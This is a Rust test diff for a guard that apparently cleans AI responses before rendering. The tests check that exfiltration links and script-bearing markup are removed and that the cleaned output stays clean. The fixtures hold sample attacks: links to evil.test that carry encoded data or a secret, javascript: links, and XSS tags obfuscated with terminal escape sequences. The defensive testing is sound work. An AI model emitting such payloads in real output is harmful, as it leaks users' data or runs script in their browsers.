@@ -252,7 +252,7 @@ fn exfiltration_links_are_stripped_and_allowed_hosts_kept() {
         ),
         (
             "bare https://evil.test/log?session=ZXlKaGJHY2lPaUpJVXpJMU5pSjk leak",
-            "bare [link removed] leak",
+            "bare (link removed) leak",
         ),
         (
             "A [reference][1]\n\n[1]: https://evil.test/{secret}",
@@ -321,7 +321,7 @@ fn markup_is_judged_as_renderers_parse_it() {
         ),
         (
             "see www.evil.test/l?d=aGVsbG8gd29ybGQgc2VjcmV0IGRhdGEgaGVyZQ now".into(),
-            "see [link removed] now".into(),
+            "see (link removed) now".into(),
         ),
         // An image by a reference defined later, in another segment.
         (
@@ -368,6 +368,40 @@ fn markup_is_judged_as_renderers_parse_it() {
     ] {
         let c = check(&g, request(None), GuardResponse::new(answer)).unwrap();
         assert_eq!(c.response().text(), answer);
+    }
+    // A rewrite never leaves a new construct behind, and an undefined reference is
+    // text, as in a renderer.
+    for answer in [
+        "[x [y](https://evil.test/?d=aGVsbG8gd29ybGQgc2VjcmV0IGRhdGEgaGVyZQ)](javascript:alert(1))",
+        "[click [here]](javascript:alert(1))",
+        "AKIAZ4QW7RTY2UIOPL3M(javascript:alert(1))",
+        " ^]]!\u{1}[~![\u{18}^]]!<!!!<!",
+    ] {
+        let once = check(&g, request(None), GuardResponse::new(answer)).unwrap();
+        let out = once.response().text().to_owned();
+        assert!(
+            !out.contains("javascript:alert(1))"),
+            "{answer:?} -> {out:?}"
+        );
+        let twice = check(&g, request(None), GuardResponse::new(out.as_str())).unwrap();
+        assert_eq!(
+            twice.response().text(),
+            out,
+            "{answer:?}: released text is clean"
+        );
+    }
+    // Removing a terminal sequence never joins a tag together.
+    for answer in [
+        "<script\u{0}\u{0}>alert(1)",
+        "<scr\u{1b}[0mipt>alert(1)",
+        "<\u{1b}[1mimg src=x onerror=alert(1)>",
+    ] {
+        let c = check(&g, request(None), GuardResponse::new(answer)).unwrap();
+        let out = c.response().text();
+        assert!(
+            !out.contains("<script") && !out.contains("<img"),
+            "{answer:?} -> {out:?}"
+        );
     }
     // Code only protects inside a markdown renderer.
     let (g, _) = guard_with(
